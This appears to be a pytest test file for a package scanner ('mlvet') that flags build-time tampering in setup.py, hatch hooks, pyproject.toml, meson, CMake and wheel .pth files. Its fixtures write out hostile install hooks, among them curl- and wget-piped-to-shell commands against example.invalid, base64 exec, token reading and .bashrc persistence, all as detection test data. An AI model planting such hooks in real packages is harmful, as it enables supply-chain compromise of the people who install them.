"""Build-system tampering: setup.py, hatch hooks, pyproject.toml, meson and wheel files, rule by rule."""

from __future__ import annotations

import json
import textwrap
import zipfile
from pathlib import Path

import pytest

from mlvet.cli import main
from mlvet.findings import Finding, Report, Severity
from mlvet.scan import scan, scan_bytes

HOST = "https://example.invalid"


def _scan(name: str, text: str) -> Report:
    return scan_bytes(textwrap.dedent(text).lstrip("\n").encode(), name)


def _found(report: Report) -> list[tuple[str, Severity, int | None]]:
    return [(f.rule.id, f.severity, f.location.line) for f in report.findings]


def _only(report: Report, rule: str) -> Finding:
    matches = [f for f in report.findings if f.rule.id == rule]
    assert len(matches) == 1, _found(report)
    return matches[0]


# ---------------------------------------------------------------- setup.py


def test_install_override_piping_curl_into_sh_is_critical_and_the_override_high() -> None:
    report = _scan(
        "setup.py",
        f"""
        import subprocess
        from setuptools import setup
        from setuptools.command.install import install

        class PostInstall(install):
            def run(self):
                install.run(self)
                subprocess.call("curl -fsSL {HOST}/i.sh | sh", shell=True)

        setup(name="x", cmdclass={{"install": PostInstall}})
        """,
    )
    assert sorted(_found(report)) == [
        ("MLV821", Severity.CRITICAL, 8),
        ("MLV825", Severity.HIGH, 5),
    ]
    critical = _only(report, "MLV821")
    assert "install command (PostInstall)" in critical.message
    assert critical.evidence["command_line"] == f"curl -fsSL {HOST}/i.sh | sh"
    assert _only(report, "MLV825").evidence == {"class": "PostInstall", "command": "install", "run_line": 6}


def test_override_registered_through_a_dict_variable_and_extra_run_code_is_medium() -> None:
    report = _scan(
        "setup.py",
        """
        from setuptools import setup
        from setuptools.command.develop import develop as _develop

        class Develop(_develop):
            def run(self):
                print("developing")
                super().run()

        commands = {"develop": Develop}
        setup(name="x", cmdclass=commands)
        """,
    )
    assert _found(report) == [("MLV825", Severity.MEDIUM, 4)]
    assert "whose run() adds code" in report.findings[0].message


def test_override_that_only_calls_the_parent_is_not_reported() -> None:
    report = _scan(
        "setup.py",
        """
        from setuptools import setup
        from setuptools.command.install import install

        class Install(install):
            '''Same as install.'''
            def run(self):
                install.run(self)

        setup(name="x", cmdclass={"install": Install})
        """,
    )
    assert report.findings == ()


def test_build_ext_override_running_the_compiler_and_git_is_clean() -> None:
    report = _scan(
        "setup.py",
        """
        import os, subprocess
        from setuptools import setup
        from setuptools.command.build_ext import build_ext

        version = subprocess.check_output(["git", "describe", "--tags"]).decode()

        class BuildExt(build_ext):
            def run(self):
                subprocess.check_call(["pkg-config", "--cflags", "yaml-0.1"])
                if os.environ.get("NO_EXT"):
                    return
                build_ext.run(self)

        setup(name="x", cmdclass={"build_ext": BuildExt})
        """,
    )
    assert report.findings == ()


def test_process_graded_by_shell_inline_code_and_install_override() -> None:
    report = _scan(
        "setup.py",
        """
        import os, subprocess, sys
        from setuptools import setup
        from setuptools.command.egg_info import egg_info

        os.system("./configure")
        subprocess.call(["./configure"])
        subprocess.check_call([sys.executable, "-c", "print(1)"])
        os.system("gcc -v")

        class EggInfo(egg_info):
            def run(self):
                os.system("./post.sh")
                egg_info.run(self)

        setup(name="x", cmdclass={"egg_info": EggInfo})
        """,
    )
    assert sorted(_found(report)) == [
        ("MLV823", Severity.MEDIUM, 6),
        ("MLV823", Severity.HIGH, 5),
        ("MLV823", Severity.HIGH, 7),
        ("MLV823", Severity.HIGH, 12),
        ("MLV825", Severity.HIGH, 10),
    ]


def test_pip_install_at_build_time_is_high() -> None:
    report = _scan(
        "setup.py",
        """
        import subprocess, sys
        subprocess.check_call([sys.executable, "-m", "pip", "install", "helper"])
        """,
    )
    assert _found(report) == [("MLV823", Severity.HIGH, 2)]


def test_base64_exec_is_critical_and_plain_decoding_medium() -> None:
    report = _scan(
        "setup.py",
        """
        import base64, zlib
        exec(base64.b64decode("cHJpbnQoMSk="))
        blob = zlib.decompress(b"x")
        """,
    )
    assert _found(report) == [("MLV824", Severity.CRITICAL, 2), ("MLV827", Severity.MEDIUM, 3)]


def test_version_file_exec_is_not_reported_but_computed_exec_is() -> None:
    report = _scan(
        "setup.py",
        """
        import os
        exec(open(os.path.join("pkg", "_version.py")).read())
        with open("pkg/__about__.py") as f:
            exec(f.read(), {})
        source = "pkg/about.py"
        text = open(source).read()
        exec(text)
        exec(compile(open("v.py").read(), "v.py", "exec"))
        exec(os.environ["CODE"])
        """,
    )
    assert _found(report) == [("MLV824", Severity.HIGH, 9)]


def test_network_and_separate_execution_make_the_download_and_run_shape() -> None:
    report = _scan(
        "setup.py",
        f"""
        import urllib.request, subprocess
        urllib.request.urlretrieve("{HOST}/tool", "tool")
        subprocess.call(["./tool"])
        """,
    )
    assert sorted(_found(report)) == [
        ("MLV821", Severity.CRITICAL, 2),
        ("MLV822", Severity.HIGH, 2),
        ("MLV823", Severity.MEDIUM, 3),
    ]
    assert _only(report, "MLV821").evidence["run_line"] == 3


def test_secrets_and_persistence_at_build_time_are_high() -> None:
    report = _scan(
        "setup.py",
        """
        import os
        token = os.environ["GITHUB_TOKEN"]
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("alias ls=x")
        """,
    )
    assert sorted(_found(report)) == [("MLV826", Severity.HIGH, 2), ("MLV826", Severity.HIGH, 3)]


def test_hatch_build_hook_is_analysed_as_build_code() -> None:
    report = _scan(
        "pkg/hatch_build.py",
        f"""
        import subprocess
        from hatchling.builders.hooks.plugin.interface import BuildHookInterface

        class Hook(BuildHookInterface):
            def initialize(self, version, build_data):
                subprocess.run("wget -q -O- {HOST}/x | bash", shell=True)
        """,
    )
    assert _found(report) == [("MLV821", Severity.CRITICAL, 6)]
    assert report.findings[0].message.startswith("hatch build hook")


def test_unparseable_setup_py_falls_back_to_the_python_rule() -> None:
    report = _scan("setup.py", "print 'python 2'\nimport os\n")
    assert [f.rule.id for f in report.findings] == ["MLV817"]


def test_setup_py_is_not_also_reported_by_the_model_code_rules() -> None:
    report = _scan("setup.py", "import subprocess\nsubprocess.run(['make'])\n")
    assert report.findings == ()
    other = _scan("model_code.py", "import subprocess\nsubprocess.run(['make'])\n")
    assert [f.rule.id for f in other.findings] == ["MLV811"]


# ---------------------------------------------------------------- pyproject.toml


def test_url_requirement_is_high_and_unpinned_requirements_info() -> None:
    report = _scan(
        "pyproject.toml",
        f"""
        [project]
        name = "x"

        [build-system]
        requires = [
            "setuptools>=61",
            "wheel==0.43.0",
            "helper @ git+{HOST}/helper.git",
        ]
        build-backend = "setuptools.build_meta"
        """,
    )
    assert sorted(_found(report)) == [("MLV833", Severity.HIGH, 8), ("MLV834", Severity.INFO, 5)]
    assert _only(report, "MLV834").evidence == {"requirements": ["setuptools>=61"]}


def test_unknown_backend_is_medium() -> None:
    report = _scan(
        "pyproject.toml",
        """
        [build-system]
        requires = ["setuptoolz==1.0"]
        build-backend = "setuptoolz.build_meta"
        """,
    )
    assert _found(report) == [("MLV831", Severity.MEDIUM, 3)]
    assert "setuptoolz.build_meta" in report.findings[0].message


def test_in_tree_backend_is_medium_shadowing_high_self_hosting_clean() -> None:
    custom = _scan(
        "pyproject.toml",
        """
        [build-system]
        requires = ["setuptools==75.1.0"]
        build-backend = "backend"
        backend-path = ["_custom_build"]
        """,
    )
    assert _found(custom) == [("MLV832", Severity.MEDIUM, 4)]
    shadow = _scan(
        "pyproject.toml",
        """
        [project]
        name = "innocent"
        [build-system]
        requires = []
        build-backend = "flit_core.buildapi"
        backend-path = ["."]
        """,
    )
    assert _found(shadow) == [("MLV832", Severity.HIGH, 6)]
    self_hosting = _scan(
        "pyproject.toml",
        """
        [project]
        name = "flit_core"
        [build-system]
        requires = []
        build-backend = "flit_core.buildapi"
        backend-path = ["."]
        """,
    )
    assert self_hosting.findings == ()


def test_setuptools_cmdclass_in_pyproject_is_medium() -> None:
    report = _scan(
        "pyproject.toml",
        """
        [tool.setuptools.cmdclass]
        install = "pkg._build.Install"
        """,
    )
    assert _found(report) == [("MLV835", Severity.MEDIUM, 2)]
    assert report.findings[0].evidence == {"command": "install", "class": "pkg._build.Install"}


def test_invalid_toml_is_low_with_its_line() -> None:
    report = _scan("pyproject.toml", "[build-system]\nrequires = [\n")
    assert [(f.rule.id, f.severity) for f in report.findings] == [("MLV828", Severity.LOW)]
    wrong_shape = _scan("pyproject.toml", 'build-system = "setuptools"\n')
    assert [f.rule.id for f in wrong_shape.findings] == ["MLV828"]


# ---------------------------------------------------------------- meson


def test_meson_downloader_is_high_pipe_critical_python_c_clean() -> None:
    report = _scan(
        "meson.build",
        f"""
        project('x', 'c')
        curl = find_program('curl')  # fetches a file
        r = run_command(curl, '-o', 'x', '{HOST}/x', check: true)
        run_command('sh', '-c', 'curl {HOST}/i | sh', check: false)
        py = import('python').find_installation()
        inc = run_command(py, ['-c', 'import numpy; print(numpy.get_include())'], check: true)
        t = custom_target('gen', output: 'g.c', command: [py, '-c', 'import os; os.system("true")'])
        """,
    )
    assert sorted(_found(report)) == [
        ("MLV821", Severity.CRITICAL, 4),
        ("MLV844", Severity.HIGH, 3),
        ("MLV844", Severity.HIGH, 7),
    ]


# ---------------------------------------------------------------- wheels and .pth


def _wheel(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr("demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n")
        archive.writestr("demo-1.0.dist-info/RECORD", b"")
    return path


def test_pth_lines_are_graded_by_what_they_do(tmp_path: Path) -> None:
    pth = (
        "../extra\n"
        "import demo_hook\n"
        "import subprocess; subprocess.Popen(['sh', '-c', 'true'])\n"
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
        "import codecs; x = codecs.decode('cevag', 'rot13')\n"
        "import (\n"
    )
    wheel = _wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo.pth": pth.encode()})
    report = scan([wheel])
    assert sorted(_found(report), key=lambda x: x[2] or 0) == [
        ("MLV847", Severity.LOW, 2),
        ("MLV847", Severity.CRITICAL, 3),
        ("MLV847", Severity.CRITICAL, 4),
        ("MLV847", Severity.HIGH, 5),
        ("MLV847", Severity.MEDIUM, 6),
    ]
    assert {f.subject.member for f in report.findings} == {"demo.pth"}


def test_pth_in_wheel_purelib_data_is_checked_but_not_deeper(tmp_path: Path) -> None:
    line = b"import os; os.system('true')\n"
    wheel = _wheel(
        tmp_path / "demo.whl",
        {"demo-1.0.data/purelib/hook.pth": line, "demo/nested/not_site.pth": line},
    )
    report = scan([wheel])
    startup = [f for f in report.findings if f.rule.id == "MLV847"]
    assert [(f.subject.member, f.severity) for f in startup] == [
        ("demo-1.0.data/purelib/hook.pth", Severity.CRITICAL)
    ]


def test_python_scripts_in_wheel_data_are_fine_shell_scripts_are_read(tmp_path: Path) -> None:
    wheel = _wheel(
        tmp_path / "demo.whl",
        {
            "demo-1.0.data/scripts/demo": b"#!python\nimport demo\ndemo.main()\n",
            "demo-1.0.data/scripts/demo-sh": b'#!/bin/sh\nexec python -m demo "$@"\n',
        },
    )
    report = scan([wheel])
    assert [(f.rule.id, f.severity, f.subject.member) for f in report.findings] == [
        ("MLV848", Severity.MEDIUM, "demo-1.0.data/scripts/demo-sh")
    ]


def test_build_files_in_a_directory_tree_are_found_by_name(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "CMakeLists.txt").write_text(f"file(DOWNLOAD {HOST}/x x)\n")
    (tmp_path / "notes.txt").write_text(f"file(DOWNLOAD {HOST}/x x)\n")
    report = scan([tmp_path])
    assert [(f.rule.id, Path(f.subject.path).name) for f in report.findings] == [("MLV841", "CMakeLists.txt")]


def test_console_script_shadowing_a_common_command_is_medium(tmp_path: Path) -> None:
    entry_points = (
        b"[console_scripts]\ndemo = demo.cli:main\npip = demo.cli:pip\n\n[demo.plugins]\ngit = x:y\n"
    )
    wheel = _wheel(tmp_path / "demo.whl", {"demo-1.0.dist-info/entry_points.txt": entry_points})
    report = scan([wheel])
    assert [(f.rule.id, f.severity, f.location.line, f.subject.member) for f in report.findings] == [
        ("MLV849", Severity.MEDIUM, 3, "demo-1.0.dist-info/entry_points.txt")
    ]
    assert report.findings[0].evidence == {"command": "pip", "target": "demo.cli:pip", "distribution": "demo"}
    own = _wheel(
        tmp_path / "pip.whl", {"pip-24.0.dist-info/entry_points.txt": b"[console_scripts]\npip = pip:main\n"}
    )
    assert [f.rule.id for f in scan([own]).findings] == []


def test_binary_content_named_like_a_build_file_keeps_its_format_scanner() -> None:
    pickle_payload = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
    report = scan_bytes(pickle_payload, "setup.py")
    assert {f.rule.id for f in report.findings} == {"MLV101"}


def test_oversized_build_file_is_a_limit_problem() -> None:
    report = scan_bytes(b"# x\n" * (2 << 20) + b"x = 1\n", "CMakeLists.txt")
    assert [(p.kind.value, p.message) for p in report.problems] == [
        ("limit", "build file larger than 8388608 bytes not analysed")
    ]


def test_cli_scan_of_a_source_tree_exits_1_with_json(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "meson.build").write_text(f"run_command('sh', '-c', 'curl {HOST} | sh')\n")
    assert main(["scan", str(tmp_path), "--format", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert [(f["rule_id"], f["severity"], f["location"]["line"]) for f in document["findings"]] == [
        ("MLV821", "critical", 1)
    ]
    (tmp_path / "meson.build").write_text("project('x', 'c')\n")
    assert main(["scan", str(tmp_path)]) == 0


def test_override_defined_inside_a_try_block_is_found() -> None:
    report = _scan(
        "setup.py",
        """
        from setuptools import setup
        try:
            from setuptools.command.install import install

            class Install(install):
                def run(self):
                    __import__("os").system("id")
                    install.run(self)
        except ImportError:
            Install = None
        setup(name="x", cmdclass={"install": Install})
        """,
    )
    assert sorted(_found(report)) == [("MLV823", Severity.HIGH, 7), ("MLV825", Severity.HIGH, 5)]


def test_commands_a_maintainer_types_by_hand_are_low_but_pip_invoked_ones_are_not() -> None:
    report = _scan(
        "setup.py",
        """
        import os, platform, sys
        if sys.argv[-1] == "publish":
            os.system("twine upload dist/*")
        if "install" in sys.argv:
            os.system("id")
        machine = platform.uname().machine
        """,
    )
    assert sorted(_found(report)) == [("MLV823", Severity.LOW, 3), ("MLV823", Severity.HIGH, 5)]
    manual = min(report.findings, key=lambda f: f.location.line or 0)
    assert manual.message.endswith("(only when run by hand as setup.py publish)")


def test_files_named_by_pyproject_get_the_build_analysis_in_a_source_tree(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        textwrap.dedent(
            """
            [build-system]
            requires = ["setuptools==75.1.0"]
            build-backend = "backend"
            backend-path = ["_build"]

            [tool.hatch.build.targets.wheel.hooks.custom]
            path = "tools/hook.py"

            [tool.setuptools.cmdclass]
            install = "demo.commands.Install"
            """
        )
    )
    payload = f"import subprocess\nsubprocess.call('curl -s {HOST}/x | sh', shell=True)\n"
    for name in ("_build/backend.py", "tools/hook.py", "src/demo/commands.py", "demo/unrelated.py"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(payload)
    report = scan([tmp_path])
    by_file = {
        (Path(f.subject.path).relative_to(tmp_path).as_posix(), f.rule.id, f.severity)
        for f in report.findings
    }
    assert by_file == {
        ("pyproject.toml", "MLV832", Severity.MEDIUM),
        ("pyproject.toml", "MLV835", Severity.MEDIUM),
        ("_build/backend.py", "MLV821", Severity.CRITICAL),
        ("tools/hook.py", "MLV821", Severity.CRITICAL),
        ("src/demo/commands.py", "MLV821", Severity.CRITICAL),
        ("demo/unrelated.py", "MLV811", Severity.CRITICAL),  # ordinary module: the model-code rules
    }
    roles = {f.message.split(" starts", 1)[0] for f in report.findings if f.rule.id == "MLV821"}
    assert roles == {"in-tree build backend", "hatch build hook", "setuptools command module"}
